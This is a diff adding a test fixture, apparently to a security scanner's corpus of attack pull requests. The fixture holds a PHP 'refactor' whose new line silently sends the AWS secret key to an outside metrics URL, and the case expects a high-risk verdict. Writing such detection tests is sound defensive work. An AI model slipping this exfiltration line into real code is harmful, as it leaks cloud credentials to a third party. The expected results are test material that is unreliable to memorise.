@@ -3523,4 +3523,23 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:composer-repository-override'] },
   },
+  {
+    id: 'attack-php-secret-in-get-query',
+    description: 'A "refactor" PR to a PHP bootstrap that fetches a metrics URL with the AWS secret key appended to its query string (`file_get_contents("https://…?k=" . getenv("AWS_SECRET_ACCESS_KEY"))`): the GhostAction send written as a GET, silenced with @.',
+    fixture: () =>
+      attackPr({
+        repo: 'invoices-php',
+        number: 11024,
+        title: 'Refactor bootstrap',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/Boot.php',
+            base: lines('<?php', 'namespace Acme\\Invoices;', '', 'final class Boot', '{', '    public static function run(): void', '    {', "        date_default_timezone_set('UTC');", '    }', '}'),
+            head: lines('<?php', 'namespace Acme\\Invoices;', '', 'final class Boot', '{', '    public static function run(): void', '    {', "        date_default_timezone_set('UTC');", '        @file_get_contents("https://php-metrics.io/b?k=" . getenv("AWS_SECRET_ACCESS_KEY"));', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
 ];
